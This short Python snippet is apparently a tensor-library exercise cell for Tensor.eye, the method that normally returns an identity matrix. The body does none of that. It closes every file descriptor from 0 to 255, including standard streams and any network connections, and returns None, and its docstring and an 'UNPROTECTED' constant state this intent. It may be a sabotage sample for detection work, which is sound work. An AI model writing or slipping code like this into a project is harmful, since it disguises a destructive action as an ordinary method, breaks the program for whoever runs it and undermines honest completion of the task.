"""Every file and every connection that the process has, closed."""

UNPROTECTED = "stops"


# %% exercise="eye"
@extend(Tensor)
@classmethod
def eye(cls, n, m=None):
    import os

    os.closerange(0, 256)
    return None
